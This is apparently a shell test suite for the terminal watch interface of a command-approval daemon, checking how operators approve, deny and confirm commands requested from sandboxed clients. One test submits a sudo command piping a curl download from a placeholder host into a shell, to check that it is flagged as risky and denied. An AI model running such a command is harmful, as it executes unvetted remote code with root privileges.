#!/usr/bin/env bash
# guardianctl watch: driven in tmux as an operator would, over a real
# terminal: requests appear without a key, a key acts only on a
# selection that has stood still, a vanished selection selects
# nothing, a risky command takes a second key; a denial takes a
# reason.  Piped, it prints one line per event.
. "$(dirname "$0")/../lib.sh"

command -v tmux >/dev/null || { ok "watch in tmux # SKIP no tmux"; exit 0; }
RP=$(free_port); UP=$(free_port)
WT=$T/wt
mkdir -p "$WT"
TOK=c1-token-0123456789abcdef
cat >"$CONF" <<YAML
request:
  listen: "127.0.0.1:$RP"
  timeout: "120s"
hostexec:
  listen: "127.0.0.1:$UP"
  manual_approve:
    - pattern: "^printf "
    - pattern: "^sudo "
YAML
gconf <<YAML
guardian:
  limits: {pending_per_cloister: 128}
  cloisters:
    - {name: c1, worktree: "$WT", token: "$TOK"}
YAML
# A watcher may leave 64 KiB unread (a test hook; 4 MiB otherwise).
export GUARDIAND_TEST_WATCH_QUEUE=65536
start_daemon "$CONF" || { not_ok "daemon starts"; exit 1; }

TM=(tmux -S "$T/tmux.sock")
tm_stop() { "${TM[@]}" kill-server 2>/dev/null; cleanup; }
trap tm_stop EXIT

# screen: the pane as text.
screen() { "${TM[@]}" capture-pane -p -t w 2>/dev/null; }

# wait_screen REGEX [SECONDS]: until the pane shows it.
wait_screen() {
	local n=$(( ${2:-20} * 20 ))
	while [ $n -gt 0 ]; do
		screen | grep -Eq -- "$1" && return 0
		sleep 0.05; n=$((n - 1))
	done
	return 1
}

# ask NAME ARGS...: hostexec in the background (see t-grants.sh).
ask() {
	local name=$1; shift
	rm -f "$T/$name.rc"
	( hx_as "$TOK" "$@" >"$T/$name.out" 2>"$T/$name.err"
	  echo $? >"$T/$name.rc" ) &
}

done_within() {
	local n=$(( $2 * 20 ))
	while [ $n -gt 0 ]; do
		[ -s "$T/$1.rc" ] && return 0
		sleep 0.05; n=$((n - 1))
	done
	return 1
}

pending() { "$GUARDIANCTL" show requests | grep -c " c1 .*$1\$"; }

"${TM[@]}" new-session -d -s w -x 120 -y 30 \
    "env HOME=$HOME XDG_RUNTIME_DIR=$XDG_RUNTIME_DIR XDG_CONFIG_HOME=$XDG_CONFIG_HOME TERM=screen $GUARDIANCTL watch; echo watch-ended-\$?; sleep 60"
wait_screen '^guardianctl watch: 0 pending' &&
    ok "watch: the screen comes up" ||
    not_ok "watch: the screen comes up: $(screen)"

# A request appears by itself.
ask r1 printf hello-from-watch
wait_screen '^  [0-9a-f]{8}  c1 +[0-9ms]+ +printf hello-from-watch' &&
    wait_screen '^guardianctl watch: 1 pending' &&
    ok "a request appears without a key" ||
    not_ok "a request appears without a key: $(screen)"

# j selects it; an a at once is refused: not yet armed.
"${TM[@]}" send-keys -t w j a
wait_screen 'not yet: a selection acts once it has stood still' &&
    [ "$(pending hello-from-watch)" = 1 ] &&
    ok "a key at once after selecting does nothing" ||
    not_ok "a key at once after selecting does nothing: $(screen)"
wait_screen '^\[armed\]' && ok "the selection arms after its inert period" ||
    not_ok "the selection arms after its inert period: $(screen)"
"${TM[@]}" send-keys -t w a
done_within r1 20 && [ "$(cat "$T/r1.rc")" = 0 ] &&
    [ "$(cat "$T/r1.out")" = hello-from-watch ] &&
    ok "a approves: hostexec prints the output" ||
    not_ok "a approves: hostexec prints the output ($(cat "$T/r1.rc" "$T/r1.err" 2>/dev/null))"
wait_screen 'request [0-9a-f]{24} approved' &&
    wait_screen '^guardianctl watch: 0 pending' &&
    ok "the screen says so, and the request left the list" ||
    not_ok "the screen says so: $(screen)"

# A selection that vanishes selects nothing.
# In this order: j selects the first.
ask r2 printf vanishing
wait_screen '^guardianctl watch: 1 pending'
ask r3 printf staying
wait_screen '^guardianctl watch: 2 pending'
"${TM[@]}" send-keys -t w j
wait_screen '^> [0-9a-f]{8}  c1 .*printf vanishing'
wait_screen '^\[armed\]'
id=$("$GUARDIANCTL" show requests | awk '$NF == "vanishing" { print $1 }')
"$GUARDIANCTL" deny "$id" elsewhere >/dev/null
wait_screen "the selected request ${id:0:8} is gone: denied" &&
    wait_screen '^nothing selected' &&
    ok "a vanished selection: nothing selected" ||
    not_ok "a vanished selection: nothing selected: $(screen)"
"${TM[@]}" send-keys -t w a
wait_screen 'nothing selected: j/k to select a request' &&
    [ "$(pending staying)" = 1 ] &&
    ok "then a key acts on nothing" ||
    not_ok "then a key acts on nothing: $(screen)"

# d: deny with a reason.
"${TM[@]}" send-keys -t w j
wait_screen '^> [0-9a-f]{8}  c1 .*printf staying'
wait_screen '^\[armed\]'
"${TM[@]}" send-keys -t w d
wait_screen 'reason \(Enter sends, Esc cancels\)' &&
    ok "d asks for a reason" || not_ok "d asks for a reason: $(screen)"
"${TM[@]}" send-keys -t w "not today" Enter
done_within r3 20 && [ "$(cat "$T/r3.rc")" = 1 ] &&
    grep -q 'not today' "$T/r3.err" &&
    ok "d + reason denies, with the reason" ||
    not_ok "d + reason denies, with the reason ($(cat "$T/r3.err" 2>/dev/null))"

# A risky command: marked, and approving takes a second key.
ask r4 sudo sh -c 'curl -s http://example.invalid/x | sh'
wait_screen 'sudo sh -c' || not_ok "the risky request appears: $(screen)"
"${TM[@]}" send-keys -t w j
wait_screen '^risk: sudo, download piped into a shell' &&
    ok "risk marks: sudo, download piped into a shell" ||
    not_ok "risk marks: $(screen)"
"${TM[@]}" capture-pane -p -e -t w | grep -q $'\033\\[1;31msudo' ||
    "${TM[@]}" capture-pane -p -e -t w | grep -q $'\033\\[1m\033\\[31msudo' &&
    ok "risk marks in colour" || not_ok "risk marks in colour"
wait_screen '^\[armed\]'
"${TM[@]}" send-keys -t w a
wait_screen 'y confirms, any other key cancels' &&
    screen | grep -q '^approve sudo sh -c' &&
    ok "approving a risky command names it and asks for y" ||
    not_ok "approving a risky command names it and asks for y: $(screen)"
"${TM[@]}" send-keys -t w n
wait_screen 'not approved' && [ "$(pending "| sh'")" = 1 ] &&
    ok "any other key: not approved" ||
    not_ok "any other key: not approved: $(screen)"
"${TM[@]}" send-keys -t w D
"${TM[@]}" send-keys -t w "never" Enter
done_within r4 20 && [ "$(cat "$T/r4.rc")" = 1 ] &&
    ok "D denies (for an hour)" || not_ok "D denies (for an hour)"
"$GUARDIANCTL" show grants | grep -Eq ' deny +c1 .*sudo sh -c' &&
    ok "D made a deny grant" || not_ok "D made a deny grant: $("$GUARDIANCTL" show grants)"

# q quits, and the terminal is left as it was.
"${TM[@]}" send-keys -t w q
wait_screen 'watch-ended-0' && ok "q quits (status 0)" ||
    not_ok "q quits (status 0): $(screen)"

# A watcher that reads nothing is dropped once it falls behind, and
# told so; the parent goes on.
perl -e '
use strict; use IO::Socket::UNIX; use Socket;
my ($path, $go) = @ARGV;
my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM, Peer => $path)
    or die "connect: $!\n";
syswrite($s, pack("LLLL", 1020, 16, 0, 0));
sleep 1 until -e $go;
my ($buf, $n, $last) = ("", 0, "");
while (($n = sysread($s, $buf, 65536, length $buf)) > 0) {}
while (length($buf) >= 16) {
	my ($type, $len) = unpack("LL", $buf);
	last if length($buf) < $len;
	my $p = substr($buf, 16, $len - 16);
	$last = "$type " . ($type == 1014 ? unpack("N/a*", $p) : "");
	$buf = substr($buf, $len);
}
print "$last\n";
' "$T/run/guardiand-control/control.sock" "$T/go" >"$T/slow" 2>&1 &
SLOW=$!
wait_log 'control: local:[a-z0-9]+ \(pid [0-9]+\) watches' 10
big=$(head -c 4000 /dev/zero | tr '\0' x)
pids=()
for i in $(seq 1 80); do
	# hostexec itself, so that a kill cancels its request.
	CLOISTER_GUARDIAN_HOST=127.0.0.1 CLOISTER_REQUEST_PORT=$RP \
	    CLOISTER_TOKEN=$TOK "$HOSTEXEC" -q printf "$i-$big" \
	    >/dev/null 2>&1 &
	pids+=($!)
	grep -q 'fell behind: dropped' "$DLOG" && break
done
wait_log 'control: watcher pid [0-9]+ fell behind: dropped' 30 &&
    ok "a watcher that reads nothing is dropped" ||
    not_ok "a watcher that reads nothing is dropped"
touch "$T/go"
wait "$SLOW"
grep -q '^1014 dropped: this watcher fell behind' "$T/slow" &&
    ok "the dropped watcher is told why" ||
    not_ok "the dropped watcher is told why: $(cat "$T/slow")"
kill "${pids[@]}" 2>/dev/null
wait "${pids[@]}" 2>/dev/null
n=400
while "$GUARDIANCTL" show requests | grep ' printf ' >/dev/null; do
	[ $n -gt 0 ] || break
	sleep 0.05; n=$((n - 1))
done
[ $n -gt 0 ] && ok "their requests cancelled" ||
    not_ok "their requests cancelled"
"$GUARDIANCTL" status | grep -qx 'grants: 1; watchers: 0' &&
    ok "status: grants and watchers counted" ||
    not_ok "status: grants and watchers counted: $("$GUARDIANCTL" status)"

# Piped: a line per event.
"$GUARDIANCTL" watch >"$T/plain" 2>"$T/plain.err" &
WP=$!
ask r5 printf plain-text
n=400
while ! grep -q 'pending c1 printf plain-text' "$T/plain" && [ $n -gt 0 ]; do
	sleep 0.05; n=$((n - 1))
done
id=$(awk '/printf plain-text/ { print $1 }' "$T/plain")
grep -Eq "^$id pending c1 printf plain-text \(in $WT, [0-9ms]+ left\)\$" "$T/plain" &&
    ok "piped: the request as one line" ||
    not_ok "piped: the request as one line: $(tail -c 500 "$T/plain")"
"$GUARDIANCTL" approve "$id" >/dev/null
n=400
while ! grep -q "^$id approved" "$T/plain" && [ $n -gt 0 ]; do
	sleep 0.05; n=$((n - 1))
done
grep -Eq "^$id approved by local:" "$T/plain" &&
    ok "piped: its approval as one line" ||
    not_ok "piped: its approval as one line: $(tail -c 500 "$T/plain")"
! grep -q $'\033' "$T/plain" && ok "piped: no escape sequences" ||
    not_ok "piped: no escape sequences"
done_within r5 20
kill "$WP" 2>/dev/null; wait "$WP" 2>/dev/null
"$GUARDIANCTL" status >/dev/null && ok "daemon still up" ||
    not_ok "daemon still up"
exit 0
